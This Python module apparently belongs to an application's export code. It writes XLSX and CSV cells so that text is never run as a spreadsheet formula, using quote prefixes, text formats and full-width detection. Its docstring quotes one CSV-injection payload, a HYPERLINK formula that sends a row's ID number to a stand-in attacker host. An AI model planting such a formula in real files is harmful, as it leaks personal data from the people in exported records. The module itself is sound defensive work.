"""Cells as every file the product writes holds them: text stays text.

A cell whose text starts with = + - @ (or their full-width forms ＝ ＋ － ＠, which Chinese
input methods type), a tab, CR or LF is a formula to a spreadsheet: a company name such as
=HYPERLINK("http://evil.example/?"&B2) would send the row's ID number away when clicked
(OWASP, CSV injection). formula_like() is the one test for it. XLSX: every text is an explicit
string cell (inline string, never <f>) in the text format "@", and a formula-like one also
carries Excel's quote prefix, so editing it keeps it text. CSV: a formula-like text is written
with a single quote before it, the OWASP way. Every export, template, error report and
enrollment list writes its cells through here.
"""

import codecs
import csv
import io
import re
import unicodedata
from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from datetime import date, datetime
from decimal import Decimal
from typing import IO, Any

from openpyxl import Workbook
from openpyxl.cell import Cell, WriteOnlyCell
from openpyxl.utils import get_column_letter

from app.completions.limits import MAX_CELL

# What a spreadsheet reads as the start of a formula, once NFKC has folded the full-width and
# small forms (＝ ﹦ ＋ ﹢ － ﹣ ＠ ﹫) into these.
_STARTS_FORMULA = frozenset("=+-@\t\r\n")
# Spaces a spreadsheet may pass over before it looks at the first character.
_LEADING_SPACES = " \u00a0\u3000"
# Characters XML 1.0 cannot hold: openpyxl refuses them with an error whose message is the
# whole cell, an ID number perhaps, and the download fails. They become U+FFFD, not nothing,
# so that "370102\x07..." stays visibly wrong instead of turning into a valid-looking ID.
_NOT_IN_XML = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")
TEXT_FORMAT = "@"
QUOTE = "'"


def formula_like(text: str) -> bool:
    """Whether a spreadsheet would take this text for a formula (or a DDE command)."""
    if not text:
        return False
    if text[0] in _STARTS_FORMULA:
        return True
    first = text.lstrip(_LEADING_SPACES)[:1]
    return bool(first) and unicodedata.normalize("NFKC", first)[:1] in _STARTS_FORMULA


def plain(value: Any) -> str | int:
    """A value as a cell shows it: whole numbers stay numbers, everything else is text
    (a date as 2026-05-01, a decimal without trailing zeros, nothing as "")."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value)
    if isinstance(value, int):
        return value
    if isinstance(value, Decimal):
        return f"{value.normalize():f}"
    if isinstance(value, datetime):
        return value.strftime("%Y-%m-%d %H:%M")
    if isinstance(value, date):
        return value.isoformat()
    return str(value)


def csv_text(value: Any) -> str:
    """A CSV field: a formula-like text behind a single quote."""
    shown = plain(value)
    if isinstance(shown, int):
        return str(shown)
    return QUOTE + shown if formula_like(shown) else shown


def _xml_text(text: str) -> str:
    # Cut at Excel's cell size: Excel calls a workbook with a longer cell damaged.
    return _NOT_IN_XML.sub("\ufffd", text)[:MAX_CELL]


def xlsx_cell(sheet, value: Any) -> Cell | None:
    """A write-only sheet's cell: text as an explicit string cell in the text format (a
    string that starts with = is never a formula, one such as #N/A never an error value),
    whole numbers as numbers, nothing as an empty cell (None)."""
    shown = plain(value)
    if shown == "":
        return None  # left empty, as Excel leaves it
    if isinstance(shown, int):
        return WriteOnlyCell(sheet, shown)
    cell = WriteOnlyCell(sheet)
    _as_text(cell, shown)
    return cell


def put(cell: Cell, value: Any) -> Cell:
    """A cell of a workbook built cell by cell: text as text (as xlsx_cell writes it); other
    values (a date, a number) as they are, for the cell's own format to show."""
    if isinstance(value, str):
        _as_text(cell, value)
    else:
        cell.value = value
    return cell


def _as_text(cell, text: str) -> None:
    cell.value = _xml_text(text)
    # After the value: openpyxl has just typed "=..." a formula and "#N/A" an error.
    cell.data_type, cell.number_format = "s", TEXT_FORMAT
    if formula_like(text):
        cell.quotePrefix = True


@dataclass
class Table:
    """One table of a file: a sheet of a workbook, a block of a CSV."""

    title: str  # the sheet's name; in a CSV of several tables, the line above each
    header: Sequence[str]
    rows: Iterable[Sequence[Any]]
    widths: Sequence[int] = ()  # column widths in characters, XLSX only


def write_xlsx(out: IO[bytes], tables: Sequence[Table], notes: Table | None = None) -> int:
    """The tables as sheets of a streamed (write-only) workbook, the notes (what the figures
    mean, the range, who asked) as a last sheet; returns the data rows written."""
    workbook = Workbook(write_only=True)  # streamed: memory stays flat, a few times faster
    written = 0
    for table in [*tables, *([notes] if notes else [])]:
        sheet = workbook.create_sheet(_sheet_title(table.title))
        for n, width in enumerate(table.widths):
            sheet.column_dimensions[get_column_letter(n + 1)].width = width
        if table is not notes:
            sheet.freeze_panes = "A2"
        sheet.append([xlsx_cell(sheet, v) for v in table.header])
        for row in table.rows:
            sheet.append([xlsx_cell(sheet, v) for v in row])
            written += table is not notes
    workbook.save(out)
    return written


def write_csv(out: IO[bytes], tables: Sequence[Table], notes: Table | None = None) -> int:
    """UTF-8 with a byte-order mark, which Chinese Excel opens as UTF-8 (without it, as GBK),
    CRLF line ends. One table: its header, then its rows (no notes: a file for programs too).
    Several: the notes' lines first, then each table under its title, a blank line before
    each. Returns the data rows written."""
    out.write(codecs.BOM_UTF8)
    text = io.TextIOWrapper(out, encoding="utf-8", newline="")
    writer = csv.writer(text, lineterminator="\r\n")
    several = len(tables) > 1
    if several and notes:
        for line in [notes.header, *notes.rows]:
            writer.writerow([csv_text(v) for v in line])
    written = 0
    for table in tables:
        if several:
            writer.writerow([])
            writer.writerow([csv_text(table.title)])
        writer.writerow([csv_text(v) for v in table.header])
        for row in table.rows:
            writer.writerow([csv_text(v) for v in row])
            written += 1
    text.flush()
    text.detach()  # the caller's file stays open
    return written


def text_workbook(rows: Iterable[Sequence[Any]]) -> bytes:
    """One sheet of text cells, the first row its header: Excel keeps 18-digit ID numbers
    intact (a CSV would turn them into 3.70102E+17), and no cell runs as a formula."""
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet()
    for row in rows:
        sheet.append([xlsx_cell(sheet, "" if v is None else str(v)) for v in row])
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def csv_bytes(rows: Iterable[Sequence[Any]]) -> bytes:
    """One table as a CSV (UTF-8 with a byte-order mark), the first row its header."""
    rows = list(rows)
    out = io.BytesIO()
    write_csv(out, [Table("", rows[0] if rows else [], rows[1:])])
    return out.getvalue()


_NOT_IN_TITLE = re.compile(r"[\[\]:*?/\\]")


def _sheet_title(title: str) -> str:
    # Excel's rules: at most 31 characters, none of []:*?/\ ; never empty.
    return _NOT_IN_TITLE.sub(" ", _xml_text(title)).strip()[:31] or "Sheet"
